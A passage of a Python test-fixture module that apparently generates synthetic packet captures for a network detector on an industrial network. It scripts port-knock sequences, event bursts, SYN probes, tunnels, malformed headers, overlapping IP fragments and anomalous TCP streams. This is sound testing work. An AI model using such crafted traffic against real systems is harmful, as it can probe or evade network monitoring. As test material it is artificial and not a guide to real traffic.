               (b"LOGIN admin", b"LOGIN admin", b"COMMAND start", b"COMMAND stop", b"COMMAND stop"), (b"TOGGLE", b"COMMAND stop", b"TOGGLE",
               b"COMMAND stop"), (b"COUNT", b"COUNT", b"COUNT", b"COUNT", b"RESET", b"COUNT", b"COMMAND stop"))  # fmt: skip
    for at, story in enumerate(stories):
        talk = Conversation(wire, (LAPTOP, 29000 + at), (PLC, SPOKEN)).open()
        for words in story:
            talk.say(0, words + b"\n")
            talk.say(1, b"done " + words + b"\n")
        talk.close()
        for words in story:
            wire.ask((LAPTOP, 29100 + at), (PLC, 9999), words, b"done " + words)


def hosts(wire: Wire) -> None:
    """Marks of hosts that hold for seconds: knocks, then commands from the same and other hosts to the same and others."""

    def word(source: str, destination: str, data: bytes) -> None:
        wire.now += SECOND // 7
        wire.datagram((source, 30000 + wire.now // SECOND % 20000), (destination, 9999), data)

    word(STRANGER, PLC, b"KNOCK")
    word(STRANGER, PLC, b"OPEN sesame")
    word(STRANGER, RTU, b"OPEN sesame")
    word(LAPTOP, PLC, b"OPEN sesame")
    word(PLC, STRANGER, b"OPEN sesame")
    wire.wait(4)
    word(STRANGER, PLC, b"OPEN after 4 s")
    wire.wait(6.5)
    word(STRANGER, PLC, b"OPEN after 11 s")
    word(STRANGER, RTU, b"KNOCK")
    word(STRANGER, RTU, b"CLEAR")
    word(STRANGER, RTU, b"OPEN after clear")
    for _ in range(3):
        word(LAPTOP, RTU, b"KNOCK")
        word(LAPTOP, RTU, b"OPEN sesame")
        wire.wait(3)
    word(LAPTOP, RTU, b"OPEN later")
    wire.wait(60)
    word(LAPTOP, RTU, b"OPEN much later")
    word(LAPTOP, RTU, b"TURN")
    word(LAPTOP, RTU, b"OPEN turned")
    word(LAPTOP, RTU, b"TURN")
    word(LAPTOP, RTU, b"OPEN turned back")
    for host in range(1, 6):
        word(f"203.0.113.{host}", PLC, b"KNOCK")
        word(f"203.0.113.{host}", f"10.10.2.{host}", b"OPEN sesame")


def rates(wire: Wire) -> None:
    """Events in bursts and slowly, from several hosts to several hosts."""

    def event(source: str, destination: str, port: int = 9999) -> None:
        wire.datagram((source, port), (destination, 9999), b"RATE event")

    for _ in range(12):
        event(STRANGER, PLC)
    wire.wait(3)
    for number in range(12):
        event(STRANGER, RTU, 10000 + number)
    wire.wait(20)
    for number in range(10):
        event(LAPTOP, (PLC, RTU)[number % 2])
        wire.wait(2)
    wire.wait(61)
    for number in range(25):
        event(f"203.0.113.{number % 4 + 1}", PLC, 11000 + number)
        wire.wait(0.7)
    for number in range(15):
        wire.send(IP(src=STRANGER, dst=PLC) / TCP(sport=31000 + number, dport=22, flags="S", seq=number))
        wire.send(IP(src=HMI, dst=f"10.10.2.{number + 1}") / ICMP(id=number))
        wire.wait(1)
    for number in range(20):
        talk = Conversation(wire, (STRANGER, 32000 + number), (PLC, SPOKEN)).open()
        talk.say(0, b"RATE event in a stream")
        talk.say(1, b"RATE answer failed")
        talk.reset()
        wire.wait(number % 5)


def marked_flows(wire: Wire) -> None:
    """One connection with events over a minute: thresholds by flow, and numbers of a flow."""
    talk = Conversation(wire, (LAPTOP, 33000), (PLC, SPOKEN)).open()
    other = Conversation(wire, (LAPTOP, 33001), (PLC, SPOKEN)).open()
    for number in range(24):
        talk.say(0, b"RATE event %d" % number)
        if number % 3 == 0:
            other.say(0, b"RATE event %d" % number)
            wire.datagram((LAPTOP, 33002), (PLC, 9999), b"COUNT")
        wire.wait(2.5)
    talk.close()
    other.close()


# --- below and beside ------------------------------------------------------------------------------------------------


def tunnels(wire: Wire) -> None:
    """VLANs, MPLS, IP in IP, GRE, 6in4, VXLAN, Teredo: the same words inside each."""

    def inner(number: int, six: bool = False) -> Packet:
        ends = (HMI6, PLC6) if six else (HMI, PLC)
        return network(*ends) / UDP(sport=34000 + number, dport=9999) / Raw(b"INNER words %d" % number)

    outer = IP(src="192.0.2.1", dst="192.0.2.2")
    wire.send(Ether(**MACS) / Dot1Q(vlan=5) / inner(0))
    wire.send(Ether(**MACS) / Dot1Q(vlan=5) / Dot1Q(vlan=6) / inner(1))
    wire.send(Ether(**MACS, type=0x88A8) / Dot1Q(vlan=5) / Dot1Q(vlan=6) / inner(2))
    wire.send(Ether(**MACS) / Dot1Q(vlan=7) / inner(3, True))
    wire.send(Ether(**MACS, type=0x8847) / MPLS(label=16, s=1, ttl=9) / inner(4))
    wire.send(outer / inner(5))
    wire.send(outer / inner(6, True))
    wire.send(outer / GRE(proto=0x0800) / inner(7))
    wire.send(outer / GRE(proto=0x86DD) / inner(8, True))
    wire.send(IPv6(src="2001:db8::1", dst="2001:db8::2") / inner(9))
    wire.send(IPv6(src="2001:db8::1", dst="2001:db8::2") / inner(10, True))
    wire.send(outer / UDP(sport=9000, dport=4789) / VXLAN(vni=9, flags=8) / Ether(**MACS) / inner(11))
    wire.send(outer / UDP(sport=9000, dport=3544) / inner(12, True))
    tagged = Wire()
    tagged.now = wire.now
    talk = Conversation(tagged, (HMI, 34100), (PLC, SPOKEN)).open()
    talk.say(0, b"INNER words of a connection in a VLAN")
    talk.say(1, b"INNER answer")
    talk.close()
    for time, data in tagged.frames:
        wire.frames.append((time, data[:12] + b"\x81\x00\x00\x09" + data[12:]))
    wire.now = tagged.now
    tunnelled = Wire()
    talk = Conversation(tunnelled, (HMI, 34101), (PLC, SPOKEN)).open()
    talk.say(0, b"INNER words of a connection in GRE")
    talk.close()
    for _, data in tunnelled.frames:
        wire.send(outer / GRE(proto=0x0800) / Raw(data[14:]))


def broken(wire: Wire) -> None:
    """Headers that lie: lengths, versions, options, truncated packets; bad checksums."""
    good = bytes(Ether(**MACS) / IP(src=STRANGER, dst=PLC) / UDP(sport=5, dport=6) / Raw(b"data of it"))

    def changed(place: int, *values: int, frame: bytes = good) -> bytes:
        return frame[:place] + bytes(values) + frame[place + len(values) :]

    wire.send(changed(14, 0x44))
    wire.send(changed(14, 0x65))
    wire.send(changed(14, 0x4F))
    wire.send(changed(16, 0, 10))
    wire.send(changed(16, 9, 10))
    wire.send(changed(24, 1, 2))
    wire.send(changed(38, 0, 4))
    wire.send(changed(38, 9, 9))
    wire.send(changed(38, 0, 9))
    wire.send(good[:20])
    wire.send(good[:37])
    wire.send(good[:14])
    segment = bytes(
        Ether(**MACS)
        / IP(src=STRANGER, dst=PLC)
        / TCP(sport=5, dport=SPOKEN, flags="S", options=[("MSS", 1000), ("NOP", None)])
    )
    wire.send(changed(46, 0x30, frame=segment))
    wire.send(changed(46, 0xF0, frame=segment))
    wire.send(changed(55, 1, frame=segment))
    wire.send(changed(55, 99, frame=segment))
    wire.send(changed(50, 1, 1, frame=segment))
    wire.send(segment[:44])
    wire.send(IP(src=STRANGER, dst=PLC, proto=1) / Raw(b"\x08\0\0"))
    wire.send(IP(src=STRANGER, dst=PLC, proto=17) / Raw(b"\0\x05\0"))
    wire.send(IP(src=STRANGER, dst=PLC) / ICMP(type=3, code=1) / Raw(b"short"))
    wire.send(IP(src=STRANGER, dst=PLC) / ICMP(type=77))
    wire.send(IP(src=STRANGER, dst=PLC, options=[Raw(b"\x07\x02\x04\x00")]) / UDP(sport=5, dport=6))
    wire.send(IP(src=STRANGER, dst=PLC, options=[Raw(b"\x99\x04\x00\x00")]) / UDP(sport=5, dport=6))
    wire.send(IP(src=STRANGER, dst=PLC, options=[Raw(b"\x83\x09\x04\x00")]) / UDP(sport=5, dport=6))
    six = bytes(Ether(**MACS) / IPv6(src=HMI6, dst=PLC6) / UDP(sport=5, dport=6) / Raw(b"data of it"))
    wire.send(changed(14, 0x40, frame=six))
    wire.send(changed(18, 9, 9, frame=six))
    wire.send(six[:40])
    wire.send(IPv6(src=HMI6, dst=PLC6, nh=58) / Raw(b"\x80"))
    wire.send(IPv6(src=HMI6, dst=PLC6, nh=59) / Raw(b"nothing next"))
    wire.send(IPv6(src=HMI6, dst=PLC6) / IPv6ExtHdrHopByHop() / IPv6ExtHdrHopByHop() / UDP(sport=5, dport=6))
    wire.send(IPv6(src=HMI6, dst=PLC6, nh=43) / Raw(b"\x11\0\0\0\0\0\0\0" + bytes(UDP(sport=5, dport=6))))
    wire.send(IP(src=STRANGER, dst=PLC, frag=8189, id=4, proto=17) / Raw(b"Z" * 600))
    for at in (0, 8, 4):
        wire.send(
            IP(src=STRANGER, dst=PLC, frag=at // 8, id=5, proto=17, flags="MF")
            / Raw(b"overlapping pieces.." + b"." * 12)
        )
    wire.send(IP(src=STRANGER, dst=PLC, frag=1, id=5, proto=17) / Raw(b"other bytes in the same place"))
    wire.send(Ether(**MACS, type=0x0806) / Raw(b"\0\x01\x08\0\x06\x04\0\x01" + b"\0" * 4))
    wire.send(Ether(**MACS, type=0x8100) / Raw(b"\0"))
    wire.send(Ether(**MACS, type=0x1234) / Raw(b"unknown to everybody"))
    wire.send(IP(src="192.0.2.1", dst="192.0.2.2", proto=47) / Raw(b"\0"))
    wire.send(IP(src="192.0.2.1", dst="192.0.2.2", proto=47) / Raw(b"\0\x07\x08\0" + b"\x45" * 8))


def odd_streams(wire: Wire) -> None:
    """What stream events are about: wrong acknowledgements, windows, resets, SYNs again, FINs too early, overlaps."""
    port = iter(range(35000, 36000))

    def fresh() -> Conversation:
        return Conversation(wire, (LAPTOP, next(port)), (PLC, SPOKEN)).open()

    def begun() -> Conversation:
        return Conversation(wire, (LAPTOP, next(port)), (PLC, SPOKEN))

    talk = begun()
    talk.send(0, "S")
    wire.send(talk.segment(1, "SA", shift=9, options=()))
    talk.sequences[0] += 77
    talk.send(1, "SA")
    talk = begun()
    talk.send(0, "S")
    talk.send(1, "SA")
    talk.send(1, "SA", shift=500)
    talk.sequences[1] += 40
    talk.send(0, "A")
    talk = begun()
    talk.send(0, "S")
    talk.send(1, "S")
    talk = begun()
    talk.send(0, "S")
    talk.send(1, "SA")
    talk.sequences[0] += 300
    talk.send(0, "A")
    for chosen in ("S", "SA", "FA", "RA", "R"):
        talk = fresh()
        talk.say(0, b"words before")
        wire.send(talk.segment(0, chosen, shift=70_000))
        wire.send(talk.segment(1, chosen, shift=3))
        talk.say(1, b"words after")
        talk.close()
    talk = fresh()
    talk.sequences[1] += 90_000
    talk.send(0, "A")
    talk.send(0, "PA", b"acknowledges what was never sent")
    talk = fresh()
    talk.send(0, "PA", b"zero window follows")
    talk.send(1, "A", window=0)
    wire.send(talk.segment(0, "A", b"p"))
    talk.send(1, "A", window=0)
    talk = fresh()
    wire.send(talk.segment(0, "PA", b"same place, one"))
    wire.send(talk.segment(0, "PA", b"same place, TWO"))
    wire.send(talk.segment(0, "PA", b"same place, one and more"))
    talk.sequences[0] += 24
    talk.send(1, "A")
    talk.close()
    talk = fresh()
    talk.close()
    talk.send(0, "PA", b"data after the end")
    talk.send(1, "FA", shift=-1)
    talk.send(0, "S", shift=100_000)
    talk = begun()
    talk.send(0, "FA")
    talk.send(1, "A")
    talk = begun()
    talk.send(0, "R")
    talk = begun()
    talk.send(0, "A")
    talk = begun()
    talk.send(0, "FPU", b"xmas")
    talk = fresh()
    talk.send(0, "PA", b"fin without ack follows")
    talk.send(0, "F")
    talk.send(0, "P", b"no ack bit")
    talk.send(1, "A")
    talk = begun()  # one side is heard alone; the other one answers later, with a small window
    for _ in range(4):
        talk.sequences[1] += 80
        talk.send(0, "PA", b"a side that is heard alone", window=64000)
    for _ in range(3):
        talk.send(1, "PA", b"the other one, late", window=2000)
        talk.send(0, "PA", b"as before", window=64000)


CAPTURES: dict[str, Callable[[Wire], None]] = {
    build.__name__: build
    for build in (
        lifetimes, ip_options, fragments, protocols, flags, numbers, icmp, icmp6, connections, datagrams, long_flows, udp_payloads,
        tcp_payloads, server_texts, split_streams, disordered_streams, long_streams, chains, hosts, rates, marked_flows, tunnels, broken,
        odd_streams,
    )
}  # fmt: skip


def frames_of(name: str) -> Wire:
    """The wire of a capture."""
    wire = Wire()
    CAPTURES[name](wire)
    return wire
